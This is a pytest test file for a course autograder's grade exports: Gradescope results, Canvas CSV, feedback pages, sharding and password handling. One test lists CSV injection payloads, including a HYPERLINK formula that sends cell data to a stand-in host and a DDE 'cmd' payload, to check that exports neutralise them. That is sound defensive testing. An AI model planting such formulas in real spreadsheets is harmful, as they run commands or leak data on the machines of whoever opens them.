"""Grades in the formats where courses publish them, made from the gradebook, and the shards of a class.

Gradescope's results.json (gradescope-autograders.readthedocs.io, "Autograder Specifications"):
a top-level score and a list of tests, each with name, score, max_score, visibility (hidden,
after_due_date, after_published or visible) and output. Canvas's gradebook import (Canvas's own
export): the columns Student, ID, SIS User ID, SIS Login ID, Section, then one per assignment,
and a "Points Possible" row. No hidden test's detail may reach either.
"""
from __future__ import annotations

import csv
import json
import re
import subprocess
import sys

import pytest

from autograder.assignment import Assignment, GradedTest, load_assignment
from autograder.engine import Result
from autograder.engine import TestOutcome as Outcome
from autograder.outputs.grade_files import Learner, export, gradescope_results, write_canvas, write_csv
from autograder.outputs.gradebook import Record, SubmissionKey, open_gradebook
from autograder.shards import Shard, ShardError, parse_shard, select, shard_of
from course.layout import SUBMISSION_SECRET, canvas_csv, feedback_page, gradebook_url, grades_csv, gradescope_folder
from tests.grader import small_class as sc

GRADESCOPE_TOP = {"score", "execution_time", "output", "visibility", "stdout_visibility", "extra_data", "tests",
                  "leaderboard", "output_format"}
GRADESCOPE_TEST = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format",
                   "tags", "visibility", "extra_data"}
VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}
HIDDEN_DETAIL = "secret case: mask of shape (3, 1, 7)"


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    root = sc.course(tmp_path_factory.mktemp("course"))
    assignment, source = _assignment(root)
    first, second, *rest = assignment.tests
    results = {
        "alice": Result("alice", sc.ASSIGNMENT, sc.NOTEBOOK, [Outcome(t.grade_id, t.points, t.points, True)
                                                               for t in assignment.tests], seconds=2.5),
        "bob": Result("bob", sc.ASSIGNMENT, sc.NOTEBOOK, [
            Outcome(first.grade_id, 0.0, first.points, False, "your weights do not sum to 1"),
            # failed on hidden cases only: the message the grader saw must never be shown
            Outcome(second.grade_id, 0.0, second.points, False, HIDDEN_DETAIL, hidden_failed=True),
            *[Outcome(t.grade_id, t.points, t.points, True) for t in rest]], notes=["a note for bob"]),
    }
    with open_gradebook(gradebook_url(root)) as gradebook:
        gradebook.prepare(assignment, source)
        for learner, result in results.items():
            gradebook.record(assignment, result, SubmissionKey(learner, "grader", "2026-12-01 10:00:00 UTC", "ab" * 64))
        lines = export(root, gradebook, [sc.ASSIGNMENT])
    return {"root": root, "assignment": assignment, "results": results, "lines": lines}


def _assignment(root):
    return load_assignment(root, sc.ASSIGNMENT)


def test_gradescope_results_have_the_documented_fields(exported):
    root, assignment = exported["root"], exported["assignment"]
    for learner, result in exported["results"].items():
        data = json.loads((gradescope_folder(root, sc.ASSIGNMENT) / learner / "results.json").read_text())
        assert set(data) <= GRADESCOPE_TOP
        assert data["score"] == result.score and data["visibility"] in VISIBILITY
        assert len(data["tests"]) == len(assignment.tests)
        for test, outcome in zip(data["tests"], result.outcomes):
            assert set(test) <= GRADESCOPE_TEST
            assert {"name", "score", "max_score", "visibility", "output"} <= set(test)
            assert test["visibility"] in VISIBILITY
            assert test["name"].startswith(outcome.grade_id)
            assert (test["score"], test["max_score"]) == (outcome.points, outcome.max_points)
        assert sum(t["score"] for t in data["tests"]) == data["score"]
    bob = json.loads((gradescope_folder(root, sc.ASSIGNMENT) / "bob" / "results.json").read_text())
    assert bob["tests"][0]["output"] == "your weights do not sum to 1"
    assert "a note for bob" in bob["output"]
    assert HIDDEN_DETAIL not in json.dumps(bob) and "hidden ones" in bob["tests"][1]["output"]


def test_the_canvas_csv_follows_canvas_columns(exported):
    root, assignment = exported["root"], exported["assignment"]
    with canvas_csv(root).open(newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", sc.ASSIGNMENT]
    assert rows[1][0] == "Points Possible" and rows[1][5] == f"{assignment.max_score:g}"
    by_login = {r[3]: r for r in rows[2:]}
    assert set(by_login) == {"alice", "bob"}
    assert by_login["alice"][5] == f"{assignment.max_score:g}"
    assert float(by_login["bob"][5]) == exported["results"]["bob"].score


def test_the_course_csv_and_feedback_come_from_the_gradebook(exported):
    root = exported["root"]
    with grades_csv(root, sc.ASSIGNMENT).open() as f:
        rows = {r["learner"]: r for r in csv.DictReader(f)}
    assert float(rows["bob"]["score"]) == exported["results"]["bob"].score
    page = feedback_page(root, "bob", sc.ASSIGNMENT, sc.NOTEBOOK).read_text()
    assert "your weights do not sum to 1" in page and HIDDEN_DETAIL not in page
    assert (feedback_page(root, "bob", sc.ASSIGNMENT, sc.NOTEBOOK).parent / SUBMISSION_SECRET).read_text() == "ab" * 64


def test_no_csv_cell_starts_a_formula_but_numbers_stay_numbers(tmp_path):
    # OWASP's CSV injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or a
    # carriage return) as a formula. Names come from the roster, flags quote the learner's code.
    formulas = ['=HYPERLINK("http://example.com/?"&A1,"grade")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", " =1+1"]
    assignment = Assignment("ch_x", "nb", (GradedTest("test_f", 2.0, ()),))
    results = [Result(f"learner{i}", "ch_x", "nb", [Outcome("test_f", -1.0, 2.0, False)], flags=[text])
               for i, text in enumerate(formulas)]
    people = {r.learner: Learner(r.learner, first_name=text, lms_user_id=text) for r, text in zip(results, formulas)}
    write_canvas(tmp_path / "canvas.csv", [assignment], {"ch_x": [Record(r.learner, "", "", None, None, None, r)
                                                                  for r in results]}, people)
    write_csv(tmp_path / "ch_x.csv", assignment, results)
    with (tmp_path / "canvas.csv").open(newline="") as f:
        canvas = list(csv.reader(f))[2:]
    with (tmp_path / "ch_x.csv").open(newline="") as f:
        grades = list(csv.DictReader(f))
    texts = [cell for row in canvas for cell in row[:2]] + [row["flags"] for row in grades]
    assert len(texts) == 3 * len(formulas)
    for text in texts:
        # quoted, or a tab or carriage return written as its escape, which starts nothing either
        assert text.startswith("'") or text[:2] in (r"\t", r"\r"), text
    # A negative score is a number, and stays one.
    assert {row[5] for row in canvas} == {"-1"} and {(r["score"], r["test_f"]) for r in grades} == {("-1", "-1")}


def test_gradescope_results_of_an_ungraded_submission_say_why():
    assignment = Assignment(sc.ASSIGNMENT, sc.NOTEBOOK, ())
    data = gradescope_results(assignment, Result("x", sc.ASSIGNMENT, sc.NOTEBOOK, error="the notebook file is empty"))
    assert data["score"] == 0 and "Not graded: the notebook file is empty" in data["output"]


def test_a_chinese_class_reads_its_feedback_page_and_gradescope_results_in_chinese(exported):
    """Graded with --lang zh, what the learner reads around the checks' messages is Chinese too."""
    from autograder import messages
    from autograder.outputs.feedback import feedback_html
    from course.tools.messages import WORDS

    bob, ungraded = exported["results"]["bob"], Result("x", sc.ASSIGNMENT, sc.NOTEBOOK, error="…")
    messages.set_language("zh")
    try:
        page = feedback_html(exported["assignment"], bob)
        unread = feedback_html(exported["assignment"], ungraded)
        results = gradescope_results(exported["assignment"], ungraded)
    finally:
        messages.set_language(None)
    assert "<html lang='zh-CN'>" in page and "给 bob 的反馈" in page and "隐藏测试只报告通过或未通过" in page
    assert "未评分：" in unread and results["output"].startswith("未评分：")
    # nothing English left but what the learner and the test wrote (bob's messages and notes, the grade ids)
    for text in (page, unread):
        prose = re.sub(r"<style>.*?</style>|<[^>]+>", " ", text, flags=re.S)
        for own in ["your weights do not sum to 1", "a note for bob", *(t.grade_id for t in exported["assignment"].tests)]:
            prose = prose.replace(own, " ")
        assert not WORDS.search(prose), WORDS.search(prose)


# -- shards ----------------------------------------------------------------------------------------


def test_shards_split_a_class_into_disjoint_stable_parts():
    learners = [f"learner{i:03d}" for i in range(200)]
    parts = [select(learners, shard=Shard(k, 4)) for k in range(4)]
    assert sorted(sum(parts, [])) == learners  # every learner in exactly one shard
    assert all(30 < len(p) < 70 for p in parts)  # about a quarter each
    # A new learner changes nobody else's shard.
    assert [select(learners + ["newcomer"], shard=Shard(k, 4)) for k in range(4)] == [
        p + (["newcomer"] if shard_of("newcomer", 4) == k else []) for k, p in enumerate(parts)]


def test_the_shard_comes_from_the_batch_system():
    assert parse_shard("1/3", {}) == Shard(1, 3)
    assert parse_shard("8", {"JOB_COMPLETION_INDEX": "7"}) == Shard(7, 8)
    slurm = {"SLURM_ARRAY_TASK_ID": "5", "SLURM_ARRAY_TASK_MIN": "1", "SLURM_ARRAY_TASK_COUNT": "8"}
    assert parse_shard("env", slurm) == Shard(4, 8)
    assert parse_shard("8", {"SLURM_ARRAY_TASK_ID": "0"}) == Shard(0, 8)
    # one task of an array of 8 run again alone (sbatch --array=3): still shard 3 of 8, not a class of one shard
    rerun = {"SLURM_ARRAY_TASK_ID": "3", "SLURM_ARRAY_TASK_MIN": "3", "SLURM_ARRAY_TASK_COUNT": "1"}
    assert parse_shard("8", rerun) == Shard(3, 8)
    for spec, env, words in [("3/3", {}, "outside 0..2"), ("8", {}, "no shard index in the environment"),
                             ("env", {"SLURM_ARRAY_TASK_ID": "1"}, "SLURM_ARRAY_TASK_COUNT"),
                             ("a/2", {}, "whole number"), ("0/0", {}, "at least 1")]:
        with pytest.raises(ShardError, match=words):
            parse_shard(spec, env)


def test_a_named_learner_without_a_submission_is_an_error():
    assert select(["a", "b", "c"], named=["c", "a"]) == ["a", "c"]
    with pytest.raises(ShardError, match="no submission from zed"):
        select(["a", "b"], named=["a", "zed"])


def test_the_grade_command_reads_the_shard_options():
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", sc.ASSIGNMENT, "--shard", "2/2"],
                          capture_output=True, text=True, env=sc.ENV, cwd=sc.REPO, timeout=120)
    assert done.returncode != 0 and "shard index 2 (from --shard) is outside 0..1" in done.stdout + done.stderr


def test_a_password_on_the_command_line_is_refused_and_never_printed():
    for command in ("grade", "export", "status"):
        done = subprocess.run([sys.executable, "-m", "autograder", command, sc.ASSIGNMENT, "--db",
                               "postgresql://grader:hunter2-secret@dbhost/grades"],
                              capture_output=True, text=True, env=sc.ENV, cwd=sc.REPO, timeout=120)
        said = done.stdout + done.stderr
        assert done.returncode == 1 and "every user of this machine can read on a command line" in said, said
        assert "~/.pgpass" in said and "GRADEBOOK_URL" in said and "hunter2" not in said, said
